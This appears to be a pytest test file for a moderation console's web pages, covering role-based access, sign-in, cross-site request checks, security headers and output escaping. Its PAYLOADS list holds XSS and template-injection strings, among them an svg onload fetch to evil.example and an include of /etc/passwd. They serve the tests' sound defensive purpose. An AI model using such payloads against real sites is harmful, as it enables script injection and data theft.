"""Who sees which page, what a page says where there is nothing, and what keeps it inert."""

import re
from base64 import b64encode
from hashlib import sha256

import pytest

from api.access import Open, Rules
from api.app import create_app
from api.console.ports import Setup
from copilot.cases import Case, CaseId, Medium, Report, ReportFlag
from copilot.people.model import Permission, Role
from tests.api.console.visiting import Office, fields_of
from tests.api.signed_in import OWN, a_client, added
from tests.builders import AT
from tests.copilot.casework.building import an_actor
from tests.people import PASSWORD

PAYLOADS = (
    "<script>document.title='taken'</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "</p></section><form action=//evil.example><button>Go",
    "javascript:alert(1)",
    "<svg/onload=fetch('//evil.example')>",
    "&lt;b&gt; &amp;#x3c;",
    "\u202e<b>\u2066\u200b",
)
PAGES = {
    "/console/queue": {Role.ANALYST, Role.SENIOR_REVIEWER, Role.POLICY, Role.CHILD_SAFETY},
    "/console/case?id=case-1": {Role.ANALYST, Role.SENIOR_REVIEWER, Role.POLICY},
    "/console/history?id=case-1": {Role.ANALYST, Role.SENIOR_REVIEWER, Role.POLICY},
    "/console/policies": set(Role) - {Role.SERVICE},
    "/console/policy?id=spam": set(Role) - {Role.SERVICE},
    "/console/section?id=spam/1.1&start=0&end=30": set(Role) - {Role.SERVICE},
    "/console/search?q=followers": set(Role) - {Role.SERVICE},
    "/console/diff?id=spam": set(Role) - {Role.SERVICE},
    "/console/precedents": {Role.ANALYST, Role.SENIOR_REVIEWER, Role.POLICY, Role.CHILD_SAFETY},
    "/console/overview": {Role.SENIOR_REVIEWER, Role.POLICY, Role.AUDITOR},
    "/console/policy-work": {Role.SENIOR_REVIEWER, Role.POLICY, Role.AUDITOR},
    "/console/audit": {Role.AUDITOR},
    "/console/me": set(Role) - {Role.SERVICE},
}


@pytest.mark.parametrize("role", [role for role in Role if role is not Role.SERVICE])
async def test_each_role_sees_its_pages_and_no_other(office: Office, role: Role) -> None:
    await office.case()
    async with office.visitor("somebody", role) as client:
        statuses = {path: (await client.get(path)).status_code for path in PAGES}
    assert statuses == {path: 200 if role in roles else 403 for path, roles in PAGES.items()}


async def test_who_is_not_signed_in_is_sent_to_the_door(office: Office) -> None:
    async with a_client(office.copilot, Rules(anonymous=None)) as client:
        for path in PAGES:
            answer = await client.get(path)
            assert (answer.status_code, answer.headers["location"]) == (303, "/console/sign-in")
        assert (await client.post("/console/approve", data={"case": "case-1"}, headers=OWN)).status_code == 401


async def test_signing_in_and_out(office: Office) -> None:
    await added(office.copilot, "ana", Role.ANALYST)
    async with a_client(office.copilot, Rules(anonymous=None)) as client:
        wrong = await client.post("/console/sign-in", data={"login": "ana", "password": "no"}, headers=OWN)
        assert (wrong.status_code, "belong together" in wrong.text) == (401, True)
        answer = await client.post("/console/sign-in", data={"login": "ana", "password": PASSWORD}, headers=OWN)
        assert (answer.status_code, answer.headers["location"]) == (303, "/console")
        assert (await client.get("/console/queue")).status_code == 200
        await client.post("/console/sign-out", headers=OWN)
        assert (await client.get("/console/queue")).status_code == 303


async def test_a_page_of_another_site_changes_nothing(office: Office) -> None:
    await office.case()
    async with office.visitor("ana") as ana:
        form = await fields_of(ana)
        for headers in ({"origin": "https://evil.example"}, {"origin": "null"}, {"sec-fetch-site": "cross-site"}):
            assert (await ana.post("/console/approve", data=form, headers=headers)).status_code == 403
    assert not (await office.copilot.casework.ledger.get(CaseId("case-1"))).decisions


def test_every_page_says_what_it_takes(office: Office) -> None:
    app = create_app(office.copilot)
    anybody = {name for name, takes in app.state.pages.items() if takes is Open.ANYBODY}
    assert anybody == {"get_static", "show_door", "come_in"}
    assert Permission.READ_AUDIT in app.state.pages.values()


async def test_nobody_becomes_somebody_else_outside_a_demonstration(office: Office) -> None:
    async with office.visitor("ana") as ana:
        assert (await ana.post("/console/as", data={"person": "x"})).status_code == 404


@pytest.mark.parametrize(
    ("role", "home"),
    [
        pytest.param(Role.ANALYST, "/console/queue", id="who decides begins at the queue"),
        pytest.param(Role.AUDITOR, "/console/policies", id="who reads no queue begins elsewhere"),
    ],
)
async def test_everybody_begins_at_a_page_of_theirs(office: Office, role: Role, home: str) -> None:
    async with office.visitor("somebody", role) as client:
        answer = await client.get("/console")
        assert (answer.status_code, answer.headers["location"]) == (303, home)
        assert (await client.get(home)).status_code == 200


async def test_who_may_not_is_told_what_it_takes_and_no_id(office: Office) -> None:
    async with office.visitor("ada", Role.AUDITOR) as ada:
        page = (await ada.get("/console/queue")).text
    assert "queues:read" in page
    assert await office.person("ada") not in page


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_content_is_text_and_never_markup(office: Office, payload: str) -> None:
    await office.case(text=f"1000 real {payload}")
    async with office.visitor("ana") as ana:
        await ana.post("/console/note", data=await fields_of(ana) | {"text": payload})
        for path in ("/console/case?id=case-1", "/console/queue", "/console/history?id=case-1"):
            answer = await ana.get(path)
            own = re.search(r"<style>(.*?)</style>", answer.text, re.DOTALL)
            assert own
            assert answer.headers["content-security-policy"] == policy_with(own[1])
            page = answer.text.replace(own[0], "", 1)
            scripts = re.findall(r"<script[^>]*>", page)
            assert all(re.fullmatch(r'<script src="/console/static/\w+/console\.js" defer>', one) for one in scripts)
            assert not re.search(r"<(svg|img|iframe|object|embed|style|base)\b", page)
            assert not re.search(r"<[a-z]+ [^>]*\b(on\w+|style|srcdoc)=", page)
            assert not {"\u202e", "\u2066", "\u200b"} & set(page)
            assert "49" not in re.sub(r'value="[^"]*"|href="[^"]*"|\d\d:\d\d|[0-9a-f-]{12,}', "", page)


def policy_with(style: str) -> str:
    """What a page of ours may do: run the one script, wear this one style, talk to its own service."""
    digest = b64encode(sha256(style.encode()).digest()).decode()
    return (
        f"default-src 'none'; script-src 'self'; style-src 'sha256-{digest}'; img-src 'self' data:; "
        "connect-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'"
    )


async def test_a_routed_case_is_not_drafted_and_not_open_to_all(office: Office) -> None:
    flagged = Case(CaseId("case-1"), "Kept for a court.", reports=(Report("court", None, ReportFlag.LEGAL_HOLD),))
    async with office.visitor("ana") as ana, office.visitor("sara", Role.SENIOR_REVIEWER) as sara:
        await office.copilot.casework.take_in(an_actor("ops", Role.SERVICE), flagged)
        assert (await ana.get("/console/case?id=case-1")).status_code == 403
        page = (await sara.get("/console/case?id=case-1")).text
        assert "With people alone" in page
        assert "Draft it" not in page
        await sara.post("/console/close", data=await fields_of(sara))
        assert "closed by" in (await sara.get("/console/case?id=case-1")).text


async def test_media_and_context_stand_under_their_names(office: Office) -> None:
    case = Case(CaseId("case-1"), "Look.", media=(Medium("image", "A poster", "1000 followers, 5 dollars"),))
    await office.copilot.store.add(case, office.draft(case), AT)
    async with office.visitor("ana") as ana:
        page = (await ana.get("/console/case?id=case-1")).text
    assert "image: words in it" in page
    assert "1000 followers, 5 dollars" in page


@pytest.mark.parametrize(
    ("path", "said"),
    [
        pytest.param("/console/queue", "Look into another queue above", id="an empty queue"),
        pytest.param("/console/queue?languages=de", "No case fits these filters", id="a filter too narrow"),
        pytest.param("/console/precedents", "Every decided case becomes a precedent here", id="no precedents"),
        pytest.param("/console/search", "Write what you look for", id="nothing looked for"),
        pytest.param("/console/policy-work", "Nothing was drafted yet", id="no drafts"),
        pytest.param("/console/overview", "It is shown once decisions were reviewed", id="no accuracy, no speed"),
    ],
)
async def test_an_empty_page_says_what_to_do(office: Office, path: str, said: str) -> None:
    async with office.visitor("sara", Role.SENIOR_REVIEWER) as sara:
        assert said in (await sara.get(path)).text


@pytest.mark.parametrize(
    ("path", "status"),
    [
        pytest.param("/console/case?id=no-such", 404, id="a case that there is not"),
        pytest.param("/console/case", 422, id="no case named"),
        pytest.param("/console/section?id=no/such", 404, id="a section that there is not"),
        pytest.param("/console/queue?after=yesterday", 422, id="a place that can't be read"),
        pytest.param("/console/diff?id=spam&older=1999-01-01", 404, id="a version that there is not"),
        pytest.param("/console/static/000000000000/console.js", 404, id="a file of another version"),
    ],
)
async def test_an_address_that_leads_nowhere_is_a_page_too(office: Office, path: str, status: int) -> None:
    async with office.visitor("sara", Role.SENIOR_REVIEWER) as sara:
        assert (await sara.get(path)).status_code == status


async def test_the_section_opens_at_the_sentence(office: Office) -> None:
    await office.case()
    async with office.visitor("ana") as ana:
        page = (await ana.get("/console/case?id=case-1")).text
        link = re.search(r'href="(/console/section\?[^"]+start=0[^"]+)#here"', page)
        assert link
        section = (await ana.get(link[1].replace("&amp;", "&"))).text
    unit = office.copilot.corpus.section("spam/1.1").units[0]  # type: ignore[arg-type]
    words = office.copilot.corpus.section("spam/1.1").text[unit.start : unit.end]  # type: ignore[arg-type]
    assert f'<mark id="here">{words}</mark>' in section


async def test_a_saved_filter_stands_among_the_queues(office: Office) -> None:
    async with office.visitor("ana") as ana:
        await ana.post("/console/filters", data={"name": "Mine", "queue": "standard", "languages": ["de", "ar"]})
        assert "Mine" in (await ana.get("/console/queue")).text
        assert 'value="ar de"' in (await ana.get("/console/queue?saved=Mine")).text
        await ana.post("/console/filters", data={"name": "Mine", "drop": "1"})
        assert "Mine" not in (await ana.get("/console/queue")).text


async def test_what_is_sent_is_small(office: Office) -> None:
    await office.case()
    async with office.visitor("ana") as ana:
        page = await ana.get("/console/case?id=case-1", headers={"accept-encoding": "gzip"})
        files = re.findall(r'(?:href|src)="(/console/static/[^"]+)"', page.text)
        sizes = [
            int((await ana.get(path, headers={"accept-encoding": "gzip"})).headers["content-length"]) for path in files
        ]
    assert len(files) == 1
    assert int(page.headers["content-length"]) + sum(sizes) <= 30_000


@pytest.mark.parametrize(
    ("headers", "policy"),
    [
        pytest.param({"sec-fetch-site": "none"}, "unsafe-none", id="a person opened it"),
        pytest.param({"sec-fetch-site": "same-origin"}, "unsafe-none", id="a page of ours opened it"),
        pytest.param({"sec-fetch-site": "cross-site"}, "same-origin", id="another site opened it"),
        pytest.param({"sec-fetch-site": "same-site"}, "same-origin", id="a neighbour opened it"),
        pytest.param({}, "same-origin", id="nobody says who opened it"),
    ],
)
async def test_a_page_is_cut_off_from_another_site_that_opened_it(
    office: Office, headers: dict[str, str], policy: str
) -> None:
    await office.case()
    async with office.visitor("ana") as ana:
        answer = await ana.get("/console/case?id=case-1", headers=headers)
    assert (answer.status_code, answer.headers["cross-origin-opener-policy"]) == (200, policy)


async def test_reports_open_in_a_page_that_can_do_nothing(office: Office) -> None:
    class OneReport:
        def all(self) -> list[object]:
            return []

        def page(self, name: str) -> str:
            return f"<h1>{name}</h1>"

    office.setup = Setup(reports=OneReport())  # type: ignore[arg-type]
    async with office.visitor("pia", Role.POLICY) as pia:
        answer = await pia.get("/console/report?name=run-1")
    assert answer.text == "<h1>run-1</h1>"
    assert "sandbox" in answer.headers["content-security-policy"]
    assert "script-src" not in answer.headers["content-security-policy"]
